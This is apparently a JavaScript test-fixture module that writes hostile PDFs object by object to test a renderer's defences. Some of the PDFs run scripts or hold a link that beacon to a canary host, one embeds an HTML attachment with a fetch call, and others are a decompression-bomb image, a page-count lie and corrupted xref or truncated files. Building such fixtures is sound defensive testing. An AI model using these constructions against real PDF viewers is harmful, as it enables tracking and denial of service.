/**
 * Hostile PDFs, written object by object: a renderer must treat each as an attack and stay within
 * its limits. What each one tries is in server/dev/fakeDrive/exports/pdf/hostile/SOURCE.md.
 */
import { Buffer } from 'node:buffer';
import { deflateSync } from 'node:zlib';

/** Where the scripts and links of the hostile files try to reach: a test can listen there. */
export const CANARY_LOCAL = 'http://127.0.0.1:47913/pdf-canary';
export const CANARY_OUTSIDE = 'https://pdf-canary.example.com/beacon';

/**
 * A classic PDF (header, objects, xref table, trailer) from its objects' bodies; object n is
 * `objects[n - 1]`, a string or `{ dict, stream }` (the stream's /Length is added).
 */
export function writePdf(objects, { root = 1 } = {}) {
  const chunks = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = chunks[0].length;
  const offsets = [];
  objects.forEach((object, i) => {
    offsets.push(length);
    const body = typeof object === 'string' ? Buffer.from(object, 'latin1') : streamObject(object);
    const chunk = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), body, Buffer.from('\nendobj\n')]);
    chunks.push(chunk);
    length += chunk.length;
  });
  const xref = ['xref', `0 ${objects.length + 1}`, '0000000000 65535 f ', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `)].join('\n');
  const trailer = `\ntrailer\n<< /Size ${objects.length + 1} /Root ${root} 0 R >>\nstartxref\n${length}\n%%EOF\n`;
  chunks.push(Buffer.from(xref + trailer, 'latin1'));
  return Buffer.concat(chunks);
}

function streamObject({ dict, stream }) {
  const data = Buffer.isBuffer(stream) ? stream : Buffer.from(stream, 'latin1');
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream')]);
}

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const text = (line) => `BT /F1 14 Tf 50 780 Td (${line}) Tj ET`;
const page = (contents, extra = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${contents} 0 R ${extra}>>`;

/** An OpenAction script that tries to reach two hosts, a link to one, and an embedded HTML file with a script. */
export function scriptAndAttachment() {
  const js = [
    `app.launchURL("${CANARY_OUTSIDE}?via=launchURL", true);`,
    `this.submitForm({ cURL: "${CANARY_LOCAL}?via=submitForm", cSubmitAs: "HTML" });`,
    `this.getURL("${CANARY_LOCAL}?via=getURL");`,
  ].join('\n');
  const attachment = `<!doctype html><script>fetch("${CANARY_LOCAL}?via=attachment")</script><p>attached</p>`;
  return writePdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(boot) 6 0 R] >> /EmbeddedFiles << /Names [(invoice.html) 7 0 R] >> >> >>`,
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    FONT,
    page(5, `/Annots [9 0 R] /AA << /O 6 0 R >> `),
    { dict: '', stream: text('This page carries a script, a link and an attached file.') },
    `<< /Type /Action /S /JavaScript /JS (${js.replace(/[()\\]/g, (c) => `\\${c}`)}) >>`,
    '<< /Type /Filespec /F (invoice.html) /UF (invoice.html) /EF << /F 8 0 R >> >>',
    { dict: '/Type /EmbeddedFile /Subtype /text#2Fhtml', stream: attachment },
    `<< /Type /Annot /Subtype /Link /Rect [50 760 400 800] /Border [0 0 0] /A << /S /URI /URI (${CANARY_OUTSIDE}?via=link) >> >>`,
  ]);
}

/** `count` real pages sharing one content stream. */
export function manyPages(count) {
  const first = 5;
  const kids = Array.from({ length: count }, (_, i) => `${first + i} 0 R`).join(' ');
  // MediaBox and Resources are inherited from the page tree, so each page is one short object.
  const pages = Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>');
  const tree = `<< /Type /Pages /MediaBox [0 0 200 100] /Resources << /Font << /F1 3 0 R >> >> /Kids [${kids}] /Count ${count} >>`;
  return writePdf(['<< /Type /Catalog /Pages 2 0 R >>', tree, FONT, { dict: '', stream: 'BT /F1 12 Tf 20 40 Td (One of many) Tj ET' }, ...pages]);
}

/** One page, but a page tree claiming two million. */
export function pageCountLie() {
  return writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 2000000 >>',
    FONT,
    page(5),
    { dict: '', stream: text('The tree claims two million pages.') },
  ]);
}

/**
 * An image declared 50,000 x 50,000 RGB (7.5 GB decoded) with 4 MB of zeros behind it, drawn on
 * the first page; a second page of 14,400 pt square (the largest page size PDF allows).
 */
export function hugeImage() {
  const zeros = deflateSync(Buffer.alloc(4 * 1024 * 1024), { level: 9 });
  return writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R 7 0 R] /Count 2 >>',
    FONT,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 6 0 R >> >> /Contents 5 0 R >>',
    { dict: '', stream: 'q 595 0 0 842 0 0 cm /Im1 Do Q' },
    { dict: '/Type /XObject /Subtype /Image /Width 50000 /Height 50000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode', stream: zeros },
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Resources << /Font << /F1 3 0 R >> >> /Contents 8 0 R >>',
    { dict: '', stream: 'BT /F1 400 Tf 100 7000 Td (A page of 200 inches) Tj ET' },
  ]);
}

/** A readable PDF cut at 60 % of its bytes: no xref, no trailer, a stream cut in the middle. */
export function truncated(pdf) {
  return pdf.subarray(0, Math.floor(pdf.length * 0.6));
}

/** A readable PDF whose xref offsets, /Size and startxref are garbage. */
export function garbageXref(pdf) {
  const source = pdf.toString('latin1');
  const at = source.lastIndexOf('\nxref');
  let n = 0;
  const xref = source
    .slice(at)
    .replace(/^\d{10} (\d{5}) n /gm, (_, gen) => `${String((++n * 2654435761) % 1e10).padStart(10, '9')} ${gen} n `)
    .replace(/\/Size \d+/, '/Size 999999999')
    .replace(/startxref\n\d+/, 'startxref\n88888888888');
  return Buffer.from(source.slice(0, at) + xref, 'latin1');
}
